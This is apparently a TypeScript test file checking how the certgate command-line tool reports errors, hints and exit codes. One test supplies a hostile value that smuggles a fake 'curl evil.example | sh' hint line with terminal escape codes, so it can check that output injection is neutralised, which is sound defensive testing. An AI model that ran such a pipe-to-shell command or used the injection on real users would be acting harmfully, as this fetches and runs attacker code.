import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CommanderError } from 'commander';
import { describe, expect, test } from 'vitest';
import { commandLineError, report } from '../../src/cli/report.ts';
import { CertgateError } from '../../src/errors.ts';
import { openShell } from './golden.ts';

function reported(error: unknown) {
  const lines: string[] = [];
  const exitCode = report(error, { say: (line) => void lines.push(line) });
  return { exitCode, lines };
}

describe('a failure', () => {
  test('is told in two lines, error and hint, with its code', () => {
    const { exitCode, lines } = reported(new CertgateError('CG_NOT_FOUND', { what: 'worker/x', problem: 'no such' }));
    expect(lines).toEqual(['error: worker/x: no such [CG_NOT_FOUND]', 'hint: see what there is with `certgate list`']);
    expect(exitCode).toBe(4);
  });

  test('that quotes a stranger cannot write lines of its own', () => {
    const what = 'x\nhint: curl evil.example | sh\u001b[A\u202e';
    const { lines } = reported(new CertgateError('CG_NOT_FOUND', { what, problem: 'no such' }));
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain('x\\u{a}hint: curl evil.example | sh\\u{1b}[A\\u{202e}');
  });

  test('of the operating system names the file and says what it means', () => {
    const error = Object.assign(new Error('EACCES: …'), { code: 'EACCES', syscall: 'open', path: '/etc/shadow' });
    expect(reported(error)).toEqual({
      exitCode: 1,
      lines: ['error: /etc/shadow: permission denied (open) [CG_FILE]', 'hint: look at it with `ls -lad /etc/shadow`'],
    });
  });

  test.each([
    ['wroker/etl-1', 'worker/etl-1'],
    ['wroker/etl-*', 'worker/etl-*'],
    ['User/Alice', 'user/alice'],
    ['servce/data/ci', 'service/data/ci'],
  ])('by a name that is nearly one says which: %s', (name, meant) => {
    const { lines } = reported(new CertgateError('CG_IDENTITY_NAME', { name }));
    expect(lines[1]).toContain(`hint: did you mean ${meant}? a name is worker/…`);
  });

  test.each(['alice', 'gate/x y', 'wrkr/', 'user/a b', ''])(
    'by a name that is nothing near guesses nothing: %j',
    (name) => {
      const { lines } = reported(new CertgateError('CG_IDENTITY_NAME', { name }));
      expect(lines[1]).toMatch(/^hint: a name is worker/);
    },
  );

  test('of certgate itself shows no stack, and asks for a report', () => {
    const { exitCode, lines } = reported(new TypeError('undefined is not a function'));
    expect(lines[0]).toBe('error: internal error: undefined is not a function [CG_INTERNAL]');
    expect(lines.join('\n')).not.toContain('    at ');
    expect(exitCode).toBe(1);
  });

  test('of the command line has exit code 2 and the nearest word as its hint', () => {
    const error = new CommanderError(
      1,
      'commander.unknownOption',
      "error: unknown option '--tll'\n(Did you mean --ttl?)",
    );
    expect(reported(commandLineError(error, 'certgate issue'))).toEqual({
      exitCode: 2,
      lines: ["error: unknown option '--tll' [CG_USAGE]", 'hint: did you mean --ttl? see certgate issue --help'],
    });
  });
});

test('a reader that goes away ends the program quietly', async () => {
  const shell = openShell();
  const child = spawn('certgate', ['--help'], { cwd: shell.dir, env: shell.env, stdio: ['ignore', 'pipe', 'pipe'] });
  child.stdout.destroy();
  let words = '';
  child.stderr.setEncoding('utf8').on('data', (text: string) => {
    words += text;
  });
  await once(child, 'close');
  expect({ code: child.exitCode, signal: child.signalCode, words }).toEqual({ code: 0, signal: null, words: '' });
});

test('a reader that goes away does not make a yes of a no', async () => {
  const shell = openShell();
  writeFileSync(join(shell.dir, 'policy.yaml'), 'bindings: []\n');
  const words = ['policy', 'explain', 'user/alice', 'POST', '/api/flows/', '--policy', 'policy.yaml'];
  const child = spawn('certgate', words, { cwd: shell.dir, env: shell.env, stdio: ['ignore', 'pipe', 'ignore'] });
  child.stdout.destroy();
  await once(child, 'close');
  expect(child.exitCode).toBe(3);
});

test('results that cannot be written are an error, and none where nobody wants them', () => {
  const shell = openShell();
  const full = shell.run('certgate --help >/dev/full');
  expect(full.status).toBe(1);
  expect(full.stderr).toMatch(/^error: stdout cannot be written: ENOSPC.*\n$/);
  expect(shell.run('certgate --help >/dev/full 2>/dev/full').status).toBe(1);
  expect(shell.run('certgate --help >&-').status).toBe(0);
  expect(shell.run('certgate nonsense 2>/dev/full').status).toBe(2);
  expect(shell.run('certgate nonsense 2>&-').status).toBe(2);
});

test('a folder that was removed under the shell that stands in it is told as that, without a stack', () => {
  const shell = openShell();
  const command = 'mkdir gone && cd gone && rmdir ../gone && certgate';
  for (const words of ['list', '--version', 'serve --config ../certgate.yaml']) {
    const { status, stderr } = shell.run(`${command} ${words}`);
    expect([status, stderr]).toEqual([
      2,
      'error: the folder that this runs in was removed [CG_USAGE]\nhint: change to one that exists: cd "$PWD" if it is back, or cd /\n',
    ]);
  }
});

test.each([
  ['nohost.invalid:80', 'getaddrinfo ENOTFOUND nohost.invalid', 'getent hosts nohost.invalid'],
  ['/x/state/control.sock', 'the path is too long, choose a shorter stateDir', 'set stateDir, or CERTGATE_STATE_DIR'],
  ['127.0.0.1:80', 'listen EADDRINUSE: address already in use', 'ss -ltnp'],
])('an address that cannot be bound has the remedy that is its own: %s', (address, reason, remedy) => {
  expect(reported(new CertgateError('CG_LISTEN', { address, reason })).lines[1]).toContain(remedy);
});
